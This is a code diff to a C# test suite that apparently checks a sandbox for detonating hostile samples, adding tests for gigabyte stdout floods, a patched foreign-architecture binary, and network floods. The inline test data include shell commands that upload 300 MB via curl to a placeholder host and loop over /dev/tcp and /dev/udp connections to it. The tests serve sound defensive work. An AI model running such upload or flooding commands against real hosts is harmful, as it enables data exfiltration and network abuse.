@@ -11,10 +11,18 @@ public abstract class HostileRuns(Engine engine)
 {
     private static readonly TimeSpan Short = TimeSpan.FromSeconds(6);
 
-    private protected async Task<Detonated> RunAsync(string command, Func<DetonationOptions, DetonationOptions>? with = null, CancellationToken? cancel = null)
+    private protected async Task<Detonated> RunAsync(string command, Func<DetonationOptions, DetonationOptions>? with = null, CancellationToken? cancel = null, Action<string>? files = null)
     {
         var program = Machine.Require(engine);
-        var sample = new Sample(new(ArtifactKind.Image, "hostile"), new ImageConfig { Entrypoint = ["/bin/sh", "-c", command] }) { Base = BaseSystem.Shell };
+        var sample = new Sample(new(ArtifactKind.Image, "hostile"), new ImageConfig { Entrypoint = ["/bin/sh", "-c", command] }) 
+        {
+            Base = BaseSystem.Shell,
+            FillAsync = files is null ? null : (folder, _) =>
+            {
+                files(folder);
+                return Task.FromResult(new Supplies([]));
+            },
+        };
         var options = new DetonationOptions { Program = program, Engine = engine, CacheDirectory = Machine.Work, Settle = Short, Timeout = TimeSpan.FromSeconds(30), HasNetwork = false, Limits = new CellLimits(Memory: 600 << 20, Disk: 64 << 20, Processes: 200) };
         var detonated = await CellRun.RunAsync(sample, with?.Invoke(options) ?? options, cancel ?? TestContext.Current.CancellationToken);
         Assert.Empty(Left());
@@ -70,9 +78,9 @@ public abstract class HostileRuns(Engine engine)
     }
 
     [Fact]
-    public async Task A_hundred_megabytes_on_stdout_are_read_and_dropped()
+    public async Task A_gigabyte_on_stdout_is_read_and_dropped()
     {
-        var detonated = await RunAsync("head -c 100000000 /dev/zero");
+        var detonated = await RunAsync("head -c 1000000000 /dev/zero");
         Assert.False(detonated.Failed);
         Assert.True(detonated.Output.Length <= 16 << 10);
     }
@@ -98,6 +106,32 @@ public abstract class HostileRuns(Engine engine)
         var detonated = await RunAsync("true", options => options with { Command = ["/no/such/program"] });
         Assert.True(detonated.Failed);
         Assert.Contains("did not start", Assert.Single(detonated.Shortfalls).Why, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task What_is_built_for_another_machine_fails_with_its_reason()
+    {
+        var detonated = await RunAsync("true", static options => options with { Command = ["/foreign"] }, files: static folder =>
+        {
+            var foreign = File.ReadAllBytes("/bin/true");
+            foreign[18] = 183;
+            File.WriteAllBytes(Path.Combine(folder, "foreign"), foreign);
+            File.SetUnixFileMode(Path.Combine(folder, "foreign"), (UnixFileMode)0x1ED);
+        });
+        Assert.True(detonated.Failed);
+        Assert.Contains("built for AArch64", Assert.Single(detonated.Shortfalls).Why, StringComparison.Ordinal);
+    }
+
+    /// <summary>All of it is read and searched, or how much was not is told.</summary>
+    [Theory]
+    [InlineData("head -c 300000000 /dev/zero | curl -s -m 20 -T - http://203.0.113.9/drop", "http://203.0.113.9/drop")]
+    [InlineData("bash -c 'for i in {1..4000}; do echo x > /dev/udp/203.0.113.9/$i; done'", "203.0.113.9")]
+    [InlineData("bash -c 'for i in {1..2000}; do (echo x > /dev/tcp/203.0.113.9/$i) & [ $((i % 50)) = 0 ] && wait; done 2>/dev/null'", "203.0.113.9")]
+    public async Task Who_floods_the_network_ends_with_a_report(string command, string where)
+    {
+        var detonated = await RunAsync(command + "; exit 0", static options => options with { HasNetwork = true });
+        Assert.False(detonated.Failed);
+        Assert.Contains(detonated.Events, happened => happened.Object?.Contains(where, StringComparison.Ordinal) is true);
     }
 
     [Fact]
